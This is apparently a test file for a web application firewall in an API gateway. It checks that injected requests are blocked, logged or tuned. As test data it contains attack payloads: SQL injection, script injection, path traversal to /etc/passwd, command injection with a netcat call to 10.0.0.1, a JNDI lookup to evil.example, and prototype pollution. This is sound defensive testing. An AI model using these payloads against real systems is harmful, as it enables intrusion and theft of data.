// The `waf` policy through a real gateway and upstream: every rule group blocks before the upstream
// is reached, detect mode lets through and logs, exclude and threshold tune it, custom header rules,
// body inspection of JSON and form bodies (which still reach the upstream byte for byte), bodies
// above maxSize, double-encoded payloads, keep-alive after an inspected body, repeated header
// lines, the parameter hard cap and custom patterns refused at load.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { Agent, request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import { connect } from 'node:net'
import { captureLog, type CapturedLog } from '../helpers/capture-log.js'
import { fetchRaw } from '../helpers/http-client.js'
import { gatewayYaml, startGateway, type TestGateway } from '../helpers/start-gateway.js'
import { echo, startUpstream, type EchoBody, type Upstream } from '../helpers/start-upstream.js'

interface Reply {
  status: number
  headers: IncomingHttpHeaders
  body: string
}

/** Sends the request-target exactly as written (no URL normalization) and an optional body. */
function send(gw: TestGateway, target: string, options: { method?: string; headers?: Record<string, string>; body?: string | Buffer; chunked?: boolean; agent?: Agent } = {}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', ...options.headers }
    if (options.body !== undefined && options.chunked !== true) headers['content-length'] = String(Buffer.byteLength(options.body))
    const req = httpRequest({ host: '127.0.0.1', port: gw.port, path: target, method: options.method ?? (options.body === undefined ? 'GET' : 'POST'), headers, agent: options.agent ?? false }, (res) => {
      const chunks: Buffer[] = []
      res.on('data', (chunk: Buffer) => chunks.push(chunk))
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }))
      res.on('error', reject)
    })
    req.on('error', reject)
    if (options.body === undefined) return void req.end()
    if (options.chunked !== true) return void req.end(options.body)
    // Two writes and no Content-Length: Transfer-Encoding: chunked.
    const bytes = Buffer.from(options.body)
    req.write(bytes.subarray(0, Math.floor(bytes.length / 2)))
    setTimeout(() => req.end(bytes.subarray(Math.floor(bytes.length / 2))), 10)
  })
}

async function gatewayWithWaf(upstream: Upstream, policy: string, log?: CapturedLog): Promise<TestGateway> {
  let yaml = gatewayYaml(`
services:
  app: { targets: [${upstream.url}] }
routes:
  - match: { path: /* }
    service: app
    policies:
${policy}
`)
  if (log !== undefined) yaml = yaml.replace('accessLog: false', 'accessLog: true').replace('level: silent', 'level: info')
  return startGateway(yaml, log === undefined ? {} : { log: log.log })
}

function accessReasons(log: CapturedLog): unknown[] {
  return log.lines.filter((line) => line.log === 'access').map((line) => line.reason)
}

function assertBlocked(reply: Reply, payload: string): void {
  assert.equal(reply.status, 403, reply.body)
  const body = JSON.parse(reply.body) as { error: { code: string; message: string }; requestId: string }
  assert.equal(body.error.code, 'ERR_WAF_BLOCKED')
  assert.equal(body.error.message, 'The request was blocked by the web application firewall')
  assert.equal(body.requestId, reply.headers['x-request-id'])
  assert.ok(!reply.body.toLowerCase().includes(payload.toLowerCase()), 'the payload is never echoed')
}

test('each rule group blocks with 403 ERR_WAF_BLOCKED before the upstream is reached; the access log names rules and score', async () => {
  await using upstream = await startUpstream()
  const log = captureLog()
  await using gw = await gatewayWithWaf(upstream, '      - waf: {}', log)
  // [target, headers, a payload fragment the reply must not echo, a rule expected among those logged]
  const attacks: Array<[target: string, headers: Record<string, string>, payload: string, rule: number]> = [
    ['/items?id=1%27%20or%20%271%27=%271', {}, "' or '1'='1", 942100],
    ['/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', {}, '<script>', 941100],
    ['/files/..%2f..%2fetc/passwd', {}, 'etc/passwd', 930100],
    ['/ping?host=127.0.0.1%3Bcat%20/etc/passwd', {}, 'cat /etc', 932100],
    ['/ping?host=8.8.8.8%7Cnc%2010.0.0.1%204444', {}, 'nc 10.0.0.1', 932100],
    ['/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, 'sqlmap', 913100],
    ['/download?name=a%00b', {}, '%00', 920270],
    ['/', { 'user-agent': '${jndi:ldap://evil.example/a}' }, 'jndi', 944100],
    ['/.env', {}, '.env', 930130],
  ]
  for (const [target, headers, payload, rule] of attacks) {
    const reply = await send(gw, target, { headers })
    assertBlocked(reply, payload)
    await new Promise((resolve) => setImmediate(resolve))
    const reason = String(accessReasons(log).at(-1))
    assert.match(reason, /^waf: \d{6}(,\d{6})* score \d+$/)
    assert.ok(reason.includes(String(rule)), `${target}: ${reason}`)
  }
  assert.equal(upstream.hits, 0)
  const clean = await send(gw, '/search?q=O%27Brien+or+Smith&sort=price', { headers: { referer: 'https://www.example.com/', cookie: 'session=abc123' } })
  assert.equal(clean.status, 200)
  assert.equal(clean.headers['x-upstream'], 'upstream')
  assert.equal(JSON.parse(clean.body).url, '/search?q=O%27Brien+or+Smith&sort=price')
  assert.equal(upstream.hits, 1)
})

test('double- and triple-encoded payloads are caught', async () => {
  await using upstream = await startUpstream()
  await using gw = await gatewayWithWaf(upstream, '      - waf: {}')
  for (const target of ['/items?id=%2527%2520or%2520%25271%2527=%25271', '/q?x=%253Csvg%2520onload%253Dalert(1)%253E', '/f?path=%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/x/%252e%252e%252fadmin', '/items?id=%252527%252520union%252520select%2525201']) {
    assertBlocked(await send(gw, target), 'select')
  }
  assert.equal(upstream.hits, 0)
})

test('detect mode lets attacks through, logs a warning with the rules, and notes them in the access log', async () => {
  await using upstream = await startUpstream()
  const log = captureLog()
  await using gw = await gatewayWithWaf(upstream, '      - waf: { mode: detect }', log)
  const reply = await send(gw, '/items?id=1%20UNION%20SELECT%20password%20FROM%20users', { headers: { 'user-agent': 'Nikto/2.5' } })
  assert.equal(reply.status, 200)
  assert.equal(upstream.hits, 1)
  await new Promise((resolve) => setImmediate(resolve))
  const warning = log.lines.find((line) => line.msg === 'waf: request matched rules (detect mode: let through)')
  assert.ok(warning, 'a warning line')
  assert.equal(warning.level, 40)
  assert.equal(warning.requestId, reply.headers['x-request-id'])
  assert.deepEqual(warning.waf, {
    mode: 'detect',
    score: 10,
    threshold: 5,
    wouldBlock: true,
    rules: [
      { id: 942150, score: 5, message: 'SQL injection: UNION SELECT', where: 'query:id' },
      { id: 913100, score: 5, message: 'Scanner: User-Agent of a security scanner or attack tool', where: 'header:user-agent' },
    ],
  })
  assert.ok(!JSON.stringify(warning).includes('password'), 'the value itself is not logged')
  assert.deepEqual(accessReasons(log), ['waf (detect): 942150,913100 score 10'])
})

test('exclude switches a rule off; the threshold decides: a warning alone passes, scores add up across rules', async () => {
  await using upstream = await startUpstream()
  const log = captureLog()
  await using gw = await startGateway(gatewayYaml(`
services:
  app: { targets: [${upstream.url}] }
routes:
  - match: { path: /default/* }
    service: app
    policies:
      - waf: {}
  - match: { path: /tuned/* }
    service: app
    policies:
      - waf: { exclude: [941100] }
  - match: { path: /lenient/* }
    service: app
    policies:
      - waf: { threshold: 10 }
`).replace('accessLog: false', 'accessLog: true').replace('level: silent', 'level: info'), { log: log.log })
  const script = '?q=%3Cscript%3Ex%3C/script%3E'
  assertBlocked(await send(gw, `/default/a${script}`), '<script')
  assert.equal((await send(gw, `/tuned/a${script}`)).status, 200, 'the only matching rule is excluded')
  assert.equal(upstream.hits, 1)
  // 941160 (alert probe) is a warning: 3 < 5.
  assert.equal((await send(gw, '/default/a?q=alert(1)')).status, 200)
  // Two different warnings: 3 + 3 >= 5.
  assertBlocked(await send(gw, '/default/a?q=alert(1)&t=%7B%7B7*7%7D%7D'), 'alert')
  // One critical rule (5) stays below a threshold of 10; two reach it.
  assert.equal((await send(gw, '/lenient/a?id=1%20union%20select%201')).status, 200)
  assertBlocked(await send(gw, '/lenient/a?id=1%20union%20select%201&f=/etc/passwd'), 'union')
  await new Promise((resolve) => setImmediate(resolve))
  assert.deepEqual(accessReasons(log).slice(2), [
    'waf: 941160 score 3 (below threshold 5)',
    'waf: 941160,934120 score 6',
    'waf: 942150 score 5 (below threshold 10)',
    'waf: 942150,930120 score 10',
  ])
})

test('a custom rule on a header blocks; other headers and values pass', async () => {
  await using upstream = await startUpstream()
  await using gw = await gatewayWithWaf(upstream, `      - waf:
          custom:
            - { id: 1001, where: ["header:x-debug"], pattern: "^(1|true|on)$", message: debug switch from outside }
            - { id: 1002, where: [query], pattern: "internal-only", score: 3 }`)
  assertBlocked(await send(gw, '/a', { headers: { 'x-debug': 'TRUE' } }), 'true')
  assert.equal((await send(gw, '/a', { headers: { 'x-debug': 'off' } })).status, 200)
  assert.equal((await send(gw, '/a', { headers: { 'x-other': 'true' } })).status, 200)
  assert.equal((await send(gw, '/a?to=internal-only')).status, 200, 'score 3 stays below 5')
  assert.equal(upstream.hits, 3)
})

test('JSON and form bodies are inspected and still reach the upstream intact, declared or chunked', async () => {
  await using upstream = await startUpstream()
  await using gw = await gatewayWithWaf(upstream, '      - waf: { inspectBody: {} }')
  const json = JSON.stringify({ name: "Seán O'Brien", bio: 'I select the best or nothing -- always.', tags: ['a', 'b'], nested: { html: '<p>Hello <b>world</b></p>' } })
  const form = 'name=O%27Brien&comment=Select+one+or+more&email=obrien%40example.com'
  for (const chunked of [false, true]) {
    let reply = await send(gw, '/users', { headers: { 'content-type': 'application/json; charset=utf-8' }, body: json, chunked })
    assert.equal(reply.status, 200)
    let echoed = JSON.parse(reply.body) as EchoBody
    assert.equal(echoed.body, json, 'byte for byte')
    if (!chunked) assert.equal(echoed.headers['content-length'], String(Buffer.byteLength(json)))
    reply = await send(gw, '/form', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form, chunked })
    assert.equal(reply.status, 200)
    echoed = JSON.parse(reply.body) as EchoBody
    assert.equal(echoed.body, form)
  }
  const hits = upstream.hits
  assertBlocked(await send(gw, '/users', { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: "x' or '1'='1" }) }), "'1'='1")
  assertBlocked(await send(gw, '/users', { headers: { 'content-type': 'application/json' }, body: '{"__proto__":{"isAdmin":true}}', chunked: true }), '__proto__')
  assertBlocked(await send(gw, '/form', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd' }), 'cat ')
  assertBlocked(await send(gw, '/note', { headers: { 'content-type': 'text/plain' }, body: 'hello <script>alert(1)</script>' }), '<script')
  assert.equal(upstream.hits, hits, 'refused bodies never reach the upstream')
  // A type not listed is not read.
  const reply = await send(gw, '/upload', { headers: { 'content-type': 'application/octet-stream' }, body: '<script>alert(1)</script>' })
  assert.equal(reply.status, 200)
  assert.equal((JSON.parse(reply.body) as EchoBody).body, '<script>alert(1)</script>')
})

test('a body above maxSize passes uninspected and whole (noted in the access log), or gets a 413 with onTooLarge: block', async () => {
  await using upstream = await startUpstream()
  const log = captureLog()
  await using gw = await startGateway(gatewayYaml(`
services:
  app: { targets: [${upstream.url}] }
routes:
  - match: { path: /pass }
    service: app
    policies:
      - waf: { inspectBody: { maxSize: 1kb } }
  - match: { path: /block }
    service: app
    policies:
      - waf: { inspectBody: { maxSize: 1kb, onTooLarge: block } }
`).replace('accessLog: false', 'accessLog: true').replace('level: silent', 'level: info'), { log: log.log })
  // The attack sits past the first kilobyte, where the WAF does not look.
  const big = JSON.stringify({ padding: 'x'.repeat(4000), q: "' or '1'='1" })
  for (const chunked of [false, true]) {
    const reply = await send(gw, '/pass', { headers: { 'content-type': 'application/json' }, body: big, chunked })
    assert.equal(reply.status, 200)
    assert.equal((JSON.parse(reply.body) as EchoBody).body, big, 'the whole body reached the upstream')
  }
  await new Promise((resolve) => setImmediate(resolve))
  assert.deepEqual(accessReasons(log), ['waf: body not inspected (too large)', 'waf: body not inspected (too large)'])
  const hits = upstream.hits
  for (const chunked of [false, true]) {
    const reply = await send(gw, '/block', { headers: { 'content-type': 'application/json' }, body: big, chunked })
    assert.equal(reply.status, 413)
    assert.equal((JSON.parse(reply.body) as { error: { code: string } }).error.code, 'ERR_BODY_TOO_LARGE')
  }
  assert.equal(upstream.hits, hits)
  assert.equal((await send(gw, '/block', { headers: { 'content-type': 'application/json' }, body: '{"small":true}' })).status, 200)
})

test('bodyLimit before waf still refuses an oversized chunked body; an inspected request leaves the connection reusable', async () => {
  await using upstream = await startUpstream()
  await using gw = await gatewayWithWaf(upstream, `      - bodyLimit: { maxSize: 2kb }
      - waf: { inspectBody: { maxSize: 64kb } }`)
  const reply = await send(gw, '/a', { headers: { 'content-type': 'text/plain' }, body: 'x'.repeat(5000), chunked: true })
  assert.equal(reply.status, 413)
  assert.equal((JSON.parse(reply.body) as { error: { code: string } }).error.code, 'ERR_BODY_TOO_LARGE')
  const agent = new Agent({ keepAlive: true, maxSockets: 1 })
  try {
    const first = await send(gw, '/a', { headers: { 'content-type': 'application/json' }, body: '{"a":"b"}', agent })
    const second = await send(gw, '/b', { headers: { 'content-type': 'application/json' }, body: '{"c":"d"}', agent })
    assert.deepEqual([first.status, second.status], [200, 200])
    assert.equal((JSON.parse(second.body) as EchoBody).body, '{"c":"d"}')
    assert.equal(first.headers.connection, 'keep-alive')
    assert.equal(second.headers.connection, 'keep-alive')
  } finally {
    agent.destroy()
  }
})

test('waf before bodyLimit: the inspected body still reaches the upstream whole, and the limit still holds', async () => {
  await using upstream = await startUpstream(echo)
  await using gw = await gatewayWithWaf(upstream, `      - waf: { inspectBody: { maxSize: 16kb } }
      - bodyLimit: { maxSize: 8kb }`)
  const payload = JSON.stringify({ comment: 'a perfectly ordinary comment', n: 42 })
  const ok = await fetchRaw(`${gw.url}/submit`, { method: 'POST', body: payload, headers: { 'content-type': 'application/json' } })
  assert.equal(ok.status, 200)
  assert.equal(ok.json<EchoBody>().body, payload)
  const big = await fetchRaw(`${gw.url}/submit`, { method: 'POST', body: JSON.stringify({ text: 'x'.repeat(12 * 1024) }), headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' } })
  assert.equal(big.status, 413)
})

/** Writes a request exactly as given (repeated header lines included) and returns the status code. */
function sendRawHead(gw: TestGateway, head: string): Promise<number> {
  return new Promise((resolve, reject) => {
    // Not end(): a half-closed client reads as an abort; `Connection: close` has the gateway close.
    const socket = connect(gw.port, '127.0.0.1', () => socket.write(head))
    let text = ''
    socket.setEncoding('latin1')
    socket.on('data', (chunk: string) => (text += chunk))
    socket.on('end', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0)))
    socket.on('error', reject)
  })
}

test('every line of a repeated header is inspected: a second User-Agent or Referer cannot hide behind the first', async () => {
  await using upstream = await startUpstream()
  await using gw = await gatewayWithWaf(upstream, '      - waf: {}')
  const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'
  const request = (lines: string[]): string => ['GET /a HTTP/1.1', 'Host: api.example.com', ...lines, 'Connection: close', '', ''].join('\r\n')
  assert.equal(await sendRawHead(gw, request([`User-Agent: ${browser}`, 'User-Agent: sqlmap/1.7.2#stable'])), 403)
  assert.equal(await sendRawHead(gw, request([`User-Agent: ${browser}`, 'Referer: https://www.example.com/', 'Referer: https://a.example/?q=<script>alert(1)</script>'])), 403)
  assert.equal(await sendRawHead(gw, request([`User-Agent: ${browser}`, 'Cookie: a=1', "Cookie: b=' or 1=1--"])), 403)
  assert.equal(upstream.hits, 0)
  assert.equal(await sendRawHead(gw, request([`User-Agent: ${browser}`, 'User-Agent: curl/8.5.0', 'Cookie: a=1', 'Cookie: b=2'])), 200)
  assert.equal(upstream.hits, 1)
})

test('past maxParameters the later fields are still read; past 4 x maxParameters the request is refused even in detect mode', async () => {
  await using upstream = await startUpstream()
  const log = captureLog()
  await using gw = await startGateway(gatewayYaml(`
services:
  app: { targets: [${upstream.url}] }
routes:
  - match: { path: /excluded/* }
    service: app
    policies:
      - waf: { maxParameters: 3, exclude: [920380] }
  - match: { path: /detect/* }
    service: app
    policies:
      - waf: { mode: detect, maxParameters: 3, inspectBody: {} }
`).replace('accessLog: false', 'accessLog: true').replace('level: silent', 'level: info'), { log: log.log })
  const fields = (count: number): string => Array.from({ length: count }, (_, i) => `f${i}=${i}`).join('&')
  assertBlocked(await send(gw, `/excluded/a?${fields(4)}&q=%3Cscript%3Ealert(1)%3C/script%3E`), '<script')
  assert.equal((await send(gw, `/excluded/a?${fields(12)}`)).status, 200, 'up to the hard cap: 920380 is excluded, nothing else matches')
  assert.equal((await send(gw, `/detect/a?${fields(12)}`)).status, 200, 'detect mode: 920380 only logged')
  assertBlocked(await send(gw, `/detect/a?${fields(13)}`), 'f12')
  assertBlocked(await send(gw, `/excluded/a?${fields(13)}`), 'f12')
  assertBlocked(await send(gw, '/detect/form', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: fields(13) }), 'f12')
  assert.equal(upstream.hits, 2)
  await new Promise((resolve) => setImmediate(resolve))
  assert.deepEqual(accessReasons(log), [
    'waf: 941100,941160 score 8',
    undefined,
    'waf (detect): 920380 score 5',
    'waf: refused, more than 12 query parameters (4 × maxParameters); 920380 score 5',
    'waf: refused, more than 12 query parameters (4 × maxParameters)',
    'waf: refused, more than 12 form fields (4 × maxParameters); 920380 score 5',
  ])
  const warning = log.lines.find((line) => line.msg === 'waf: request refused past a hard cap (even in detect mode)')
  assert.ok(warning, 'detect mode warns about a refusal it could not let through')
})

test('custom patterns that backtrack catastrophically are refused when the config loads, naming the entry, the rule and the group', async () => {
  await using upstream = await startUpstream()
  for (const [pattern, message] of [
    ['(\\w|\\d)+x', 'repeats the group (\\w|\\d)+, which holds an alternation'],
    ['(a|a)*x', 'repeats the group (a|a)*, which holds an alternation'],
    ['(a+){12}x', 'repeats the group (a+){12}, which holds a quantifier'],
  ] as const) {
    // A gateway that starts after all is closed, so a failure here cannot leave a server running.
    const outcome = await gatewayWithWaf(upstream, `      - waf: { custom: [{ id: 1001, where: [query], pattern: ${JSON.stringify(pattern)} }] }`).then(
      async (gw) => {
        await gw.close()
        return 'started'
      },
      (error: unknown) => (error as Error).message,
    )
    assert.ok(outcome.includes(`routes[0].policies[0].waf: expected valid waf options, found custom[0].pattern (rule 1001) ${message}: that can backtrack catastrophically`), outcome)
  }
})
